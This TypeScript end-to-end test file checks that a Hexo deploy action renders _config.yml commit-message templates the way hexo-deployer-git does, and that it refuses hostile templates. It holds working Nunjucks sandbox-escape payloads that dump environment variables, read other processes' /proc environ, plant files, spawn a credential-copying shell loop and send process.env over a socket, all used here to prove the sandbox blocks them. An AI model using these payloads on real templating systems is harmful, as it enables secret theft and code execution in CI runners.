// End to end: the `message` of _config.yml's git deployer, which our push renders as hexo-deployer-git does (the
// real Nunjucks and Luxon) in a sandboxed process of its own: the same commit message as a real `hexo deploy`; a
// template that escapes Nunjucks gets nothing of ours; one that hangs or does not parse fails the step, unpushed.
import { execFileSync } from 'node:child_process';
import { existsSync, readdirSync, readFileSync, readlinkSync } from 'node:fs';
import * as net from 'node:net';
import * as fs from 'node:fs/promises';
import * as path from 'node:path';
import { VALID_TOKEN } from '../support/git-server.mjs';
import { expectNoSecretAnywhere, refuseInHook, tokenForms, useEndToEnd } from '../support/e2e.js';
import { runAction, type ActionResult, type Job } from '../support/run-action.mjs';

const e2e = useEndToEnd();

/** Replaces the fixture's `deploy:` block (the end of its _config.yml) with a git deployer to `repo`, with `message`. */
async function setDeploy(work: Job, repo: string, message: string): Promise<void> {
  const file = path.join(work.workspace, '_config.yml');
  const text = await fs.readFile(file, 'utf8');
  const deploy = ['deploy:', '  type: git', `  repo: ${e2e.server.repoUrl(repo)}`, '  branch: gh-pages'];
  // A JSON string is a YAML double-quoted scalar.
  await fs.writeFile(
    file,
    `${text.slice(0, text.indexOf('deploy:'))}${[...deploy, `  message: ${JSON.stringify(message)}`, ''].join('\n')}`,
  );
}

/** The message of the branch's tip, byte for byte, as the server stores it. */
function storedMessage(repo: string, branch: string): string {
  const object = execFileSync('git', ['--git-dir', e2e.server.gitDir(repo), 'cat-file', 'commit', branch], {
    encoding: 'utf8',
  });
  return object.slice(object.indexOf('\n\n') + 2);
}

function deploy(work: Job, inputs: Record<string, string> = {}): Promise<ActionResult> {
  return runAction(work, { serverUrl: e2e.server.url, repository: 'octo/sources', githubToken: VALID_TOKEN, inputs });
}

test('a rich message gets the commit message a real hexo deploy gives it', async () => {
  const ours = e2e.repoName('rich-ours');
  const theirs = e2e.repoName('rich-theirs');
  await e2e.server.createRepo(ours);
  await e2e.server.createRepo(theirs);
  const message = [
    "{% set kind = 'blog' %}{{ kind | upper }} updated {{ now('ccc, LLL d yyyy') }} ({{ now('ZZZ z') }})",
    '{% if true %}  [auto]{% endif %}   ',
    '',
    '',
    "{{ 'a,b' | replace(',', ' & ') }} {{ '<tags>' }}",
    '# kept, as git commit -m keeps it',
    '',
    '',
  ].join('\n');
  const oursJob = await e2e.job();
  const theirsJob = await e2e.job();
  await setDeploy(oursJob, ours, message);
  await setDeploy(theirsJob, theirs, message);

  const ourResult = await deploy(oursJob);
  const theirResult = await deploy(theirsJob, { 'deploy-command': 'npx hexo deploy' });

  expect([ourResult.errors, theirResult.errors]).toEqual([[], []]);
  const stored = storedMessage(ours, 'gh-pages');
  expect(stored).toBe(storedMessage(theirs, 'gh-pages'));
  expect(stored).toMatch(
    /^BLOG updated \w{3}, \w{3} \d{1,2} \d{4} \([+-]\d{4} \S+\)\n {2}\[auto\]\n\na &amp; b &lt;tags&gt;\n# kept/,
  );
  expect(stored).toMatch(/[^\n]\n$/);
});

test('a message that escapes Nunjucks is refused before it reads, writes or starts anything; nothing is pushed', async () => {
  const repo = e2e.repoName('escape');
  await e2e.server.createRepo(repo);
  // The push takes a second on the server: time for a process left running to read our git's environment.
  await refuseInHook(e2e.server.gitDir(repo), 'sleep 1');
  const work = await e2e.job();
  const loot = path.join(work.home, 'loot');
  const planted = [path.join(work.home, 'planted'), path.join(work.workspace, 'source', 'planted.md')];
  const thief = [
    `mkdir -p '${loot}'`,
    'while :; do',
    `  cp -r '${work.runnerTemp}'/pages-push-* '${loot}/' 2>/dev/null`,
    `  for file in /proc/[0-9]*/environ; do tr '\\0' '\\n' < "$file" >> '${loot}/environ' 2>/dev/null; done`,
    `  date +%s%N > '${loot}/heartbeat'`,
    '  sleep 0.05',
    'done',
  ].join('\n');
  const escape = (code: string): string =>
    `{{ range.constructor(${JSON.stringify(`try { ${code} } catch (error) { return 'refused: ' + error.message }`)})() }}`;
  const fsCall = "process.getBuiltinModule('fs')";
  const message = [
    'Site updated',
    `env: ${escape('return JSON.stringify(process.env)')}`,
    `parent: ${escape(`return ${fsCall}.readFileSync('/proc/' + process.ppid + '/environ', 'latin1')`)}`,
    `home: ${escape(`${fsCall}.writeFileSync(${JSON.stringify(planted[0])}, 'x'); return 'wrote'`)}`,
    `workspace: ${escape(`${fsCall}.writeFileSync(${JSON.stringify(planted[1])}, 'x'); return 'wrote'`)}`,
    `spawn: ${escape(
      "process.getBuiltinModule('child_process').spawn('sh', ['-c', " +
        JSON.stringify(thief) +
        "], { detached: true, stdio: 'ignore' }).unref(); return 'spawned'",
    )}`,
  ].join('\n');
  await setDeploy(work, repo, message);

  const tip = await e2e.server.commit(repo, 'gh-pages', { 'index.html': 'live\n' });

  const result = await deploy(work, { token: VALID_TOKEN });

  // The renderer refuses the code before it runs: the step fails, naming the setting, and nothing is pushed.
  expect(result.exitCode).toBe(1);
  expect(result.errors.join('\n')).toContain('The message in _config.yml\'s deploy ("Site updated") does not render');
  expect(result.errors.join('\n')).toContain('a message template may not make code from a string');
  expect((await e2e.server.log(repo, 'gh-pages'))[0]?.sha).toBe(tip);
  await new Promise((resolve) => setTimeout(resolve, 500));
  expect([existsSync(loot), ...planted.map((file) => existsSync(file))]).toEqual([false, false, false]);
  await expectNoSecretAnywhere(work, result, tokenForms(VALID_TOKEN), { server: e2e.server, repo });
});

test('a message whose code signals the action or opens a connection fails the step at once, reaching nothing', async () => {
  const repo = e2e.repoName('signal-message');
  await e2e.server.createRepo(repo);
  const tip = await e2e.server.commit(repo, 'gh-pages', { 'index.html': 'live\n' });
  const work = await e2e.job();
  const received: string[] = [];
  const listener = net.createServer((socket) => {
    received.push('a connection');
    socket.on('data', (data: Buffer) => received.push(data.toString('latin1')));
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  const { port } = listener.address() as net.AddressInfo;
  const code = (body: string): string => `{{ range.constructor(${JSON.stringify(body)})() }}`;
  const connect = `.connect(${port}, '127.0.0.1').end(JSON.stringify(process.env))`;
  await setDeploy(
    work,
    repo,
    [
      'Site updated',
      code("process.kill(process.ppid, 'SIGSTOP'); return 'stopped'"),
      code("process.kill(process.ppid, 'SIGUSR1'); return 'signalled'"),
      code(`process.getBuiltinModule('net')${connect}; return 'sent'`),
      code(`import('node:net').then((net) => net${connect}); return 'importing'`),
      code(`new (process.stdout.constructor)()${connect}; return 'sent by the class of stdout'`),
    ].join('\n'),
  );
  // A step the template stopped would hang until the job's timeout: this lets it go on, and says so.
  const stopped = watchStopped(work.workspace);
  const started = Date.now();

  const result = await deploy(work, { token: VALID_TOKEN });
  await new Promise((resolve) => setTimeout(resolve, 500));
  stopped.end();
  await new Promise<void>((resolve) =>
    listener.close(() => {
      resolve();
    }),
  );

  expect(stopped.seen).toEqual([]);
  expect(received).toEqual([]);
  expect(result.exitCode).toBe(1);
  expect(result.errors.join('\n')).toContain('a message template may not make code from a string');
  expect(result.log).not.toContain('Debugger listening');
  expect((await e2e.server.log(repo, 'gh-pages'))[0]?.sha).toBe(tip);
  expect(Date.now() - started).toBeLessThan(30_000);
});

/** Watches for a process of ours working in `folder` that something stopped (SIGSTOP), and lets it go on. */
function watchStopped(folder: string): { seen: number[]; end(): void } {
  const seen: number[] = [];
  const timer = setInterval(() => {
    for (const name of readdirSync('/proc')) {
      if (!/^\d+$/.test(name)) continue;
      try {
        if (readlinkSync(`/proc/${name}/cwd`) !== folder) continue;
        const stat = readFileSync(`/proc/${name}/stat`, 'utf8');
        if (stat.slice(stat.lastIndexOf(')') + 2).startsWith('T')) {
          seen.push(Number(name));
          process.kill(Number(name), 'SIGCONT');
        }
      } catch {
        // ended, or not ours to read
      }
    }
  }, 100);
  return {
    seen,
    end: () => {
      clearInterval(timer);
    },
  };
}

test.each([
  [
    'hangs',
    '{% for i in range(0, 100000) %}{% for j in range(0, 100000) %}{% endfor %}{% endfor %}Site updated',
    /The message in _config.yml's deploy did not render within 10 seconds \(a loop that does not end\?\).*set the commit-message input/,
  ],
  [
    'does not parse',
    "Site updated: {{ now('yyyy-MM-dd' }}",
    /The message in _config.yml's deploy \("Site updated: \{\{ now\('yyyy-MM-dd' \}\}"\) does not render as hexo-deployer-git renders it: [\s\S]*parseSignature: expected comma after expression/,
  ],
])('a message that %s fails the step before anything is pushed', async (_what, message, error) => {
  const repo = e2e.repoName('bad-message');
  await e2e.server.createRepo(repo);
  const tip = await e2e.server.commit(repo, 'gh-pages', { 'index.html': 'live\n' });
  const work = await e2e.job();
  await setDeploy(work, repo, message);
  const started = Date.now();

  const result = await deploy(work);

  expect(result.exitCode).not.toBe(0);
  expect(result.errors.join('\n')).toMatch(error);
  expect((await e2e.server.log(repo, 'gh-pages'))[0]?.sha).toBe(tip);
  expect(Date.now() - started).toBeLessThan(90_000);
});
